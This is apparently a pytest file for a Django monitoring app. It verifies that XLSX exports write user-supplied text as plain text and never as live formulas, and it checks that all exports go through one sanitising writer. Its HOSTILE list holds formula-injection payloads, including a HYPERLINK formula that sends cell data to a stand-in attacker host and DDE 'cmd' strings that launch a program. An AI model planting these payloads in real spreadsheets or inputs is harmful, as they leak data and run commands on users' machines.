"""Safe exports: no text a user wrote becomes a formula in any XLSX the app writes."""

from __future__ import annotations

import itertools
from io import BytesIO
from typing import Any

import pytest
from django.db import models
from openpyxl import Workbook, load_workbook

from monev.core.xlsx import workbook_bytes
from monev.sop.testing import run_of

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://penyerang.example/?"&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _text_fields(model: type[models.Model]) -> list[str]:
    keep = {"code", "status", "kind", "content_type", "sha256", "level", "actor_name"}
    return [
        f.name
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and f.name not in keep
        and not f.name.endswith(("_role", "_key"))
    ]


_turn = itertools.count()


def _poison(queryset: Any) -> int:
    """Write hostile text into every free-text field of every row; return how many."""
    written = 0
    for obj in queryset:
        fields = _text_fields(type(obj))
        for name in fields:
            limit = obj._meta.get_field(name).max_length or 1000
            setattr(obj, name, HOSTILE[next(_turn) % len(HOSTILE)][:limit])
        obj.save(update_fields=fields)
        written += len(fields)
    return written


def _cells(data: bytes) -> list[Any]:
    book = load_workbook(BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_safe(data: bytes) -> set[str]:
    cells = _cells(data)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    hostile = set()
    for cell in cells:
        if isinstance(cell.value, str) and cell.value in HOSTILE:
            assert cell.data_type == "s" and cell.quotePrefix
            hostile.add(cell.value)
    return hostile


def test_the_rule_keeps_numbers_numbers_and_text_text() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([*HOSTILE, 12, -3.5, "biasa", "=1+1"])
    cells = _cells(workbook_bytes(book))
    expected = [*HOSTILE, 12, -3.5, "biasa", "=1+1"]
    assert [c.value for c in cells] == expected
    assert [c.data_type for c in cells] == ["s"] * 6 + ["n", "n", "s", "s"]


def test_every_export_writes_hostile_text_as_text(
    sop_cycle: Any, small_plan: Any, personas: Any
) -> None:
    from monev.collection.models import Realization, Submission
    from monev.collection.xlsx import export_form
    from monev.evaluation import e81
    from monev.evaluation.e81 import xlsx as e81_xlsx
    from monev.evaluation.models import AnalysisNote
    from monev.organization.models import Unit
    from monev.planning.models import Indicator, PlanNode
    from monev.planning.xlsx import export_plan
    from monev.sop import services as sop_services

    sop_services.step_complete(actor=personas["kasubag"], run=run_of(sop_cycle, 1))
    submission = Submission.objects.get(cycle=sop_cycle, unit__code="BID-KOP")
    for indicator in Indicator.objects.all():
        Realization.objects.create(
            indicator=indicator, year=sop_cycle.year, quarter=sop_cycle.quarter, value=5
        )
    written = 0
    # plan names, indicator names and units, realisation notes and no-data reasons, the
    # Bidang's narratives (kendala, tindak lanjut …), analysis notes where they exist
    written += _poison(PlanNode.objects.all())
    written += _poison(Indicator.objects.all())
    written += _poison(Realization.objects.all())
    written += _poison(Submission.objects.filter(pk=submission.pk))
    written += _poison(Unit.objects.filter(code="BID-KOP"))
    written += _poison(AnalysisNote.objects.all())
    assert written > 20
    submission.refresh_from_db()

    found: set[str] = set()
    found |= _assert_safe(export_plan(small_plan))
    found |= _assert_safe(export_form(submission))
    table = e81.build(sop_cycle.agency, year=sop_cycle.year, quarter=sop_cycle.quarter)
    found |= _assert_safe(e81_xlsx.export(table))
    assert found == set(HOSTILE)  # every kind of hostile text reached some export


def test_the_register_the_rekap_and_the_kabupaten_export_write_hostile_text_as_text(
    sop_cycle: Any, small_plan: Any, personas: Any
) -> None:
    """Issue 21, item 4: the recommendation register (/kunjungan/rekomendasi/xlsx/) and step
    3's rekap.xlsx bypassed the one writer; "=HYPERLINK(…)" became a live formula."""
    from datetime import date

    from django.test import Client
    from django.urls import reverse
    from django.utils import timezone

    from monev.collection.models import Realization
    from monev.monitoring.models import Recommendation
    from monev.organization.models import Unit
    from monev.planning.models import Indicator

    kop = Unit.objects.get(code="BID-KOP")
    for n, text in enumerate(HOSTILE):
        Recommendation.objects.create(
            agency=sop_cycle.agency,
            unit=kop,
            cycle=sop_cycle,
            text=text,
            due_date=date(2026, 12, 1 + n),
            created_at=timezone.now(),
        )
    for indicator in Indicator.objects.all():
        Realization.objects.create(
            indicator=indicator, year=sop_cycle.year, quarter=sop_cycle.quarter, value=5
        )
    _poison(Indicator.objects.all())
    _poison(Unit.objects.filter(code="BID-KOP"))
    client = Client()
    client.force_login(personas["kasubag"])
    register = client.get(reverse("monitoring:register_xlsx"))
    assert register.status_code == 200
    assert _assert_safe(register.content) == set(HOSTILE)
    rekap = client.get(reverse("evaluation:rekap_xlsx", args=[sop_cycle.pk]))
    assert rekap.status_code == 200
    assert _assert_safe(rekap.content)  # indicator names and units came through, as text


def test_no_module_saves_a_workbook_but_the_one_writer() -> None:
    """Structural: every XLSX the app writes goes through core.xlsx.workbook_bytes. A module
    that builds an openpyxl Workbook and calls its .save() itself would bypass the sanitiser;
    this test names it."""
    import ast
    from pathlib import Path

    import monev

    root = Path(monev.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or (path.name == "xlsx.py" and path.parent.name == "core"):
            continue
        source = path.read_text(encoding="utf-8")
        if "openpyxl" not in source:
            continue
        tree = ast.parse(source)
        books = {
            target.id
            for node in ast.walk(tree)
            if isinstance(node, ast.Assign)
            and isinstance(node.value, ast.Call)
            and getattr(node.value.func, "id", getattr(node.value.func, "attr", "")) == "Workbook"
            for target in node.targets
            if isinstance(target, ast.Name)
        }
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "save"
                and isinstance(node.func.value, ast.Name)
                and node.func.value.id in books
            ):
                offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert offenders == []
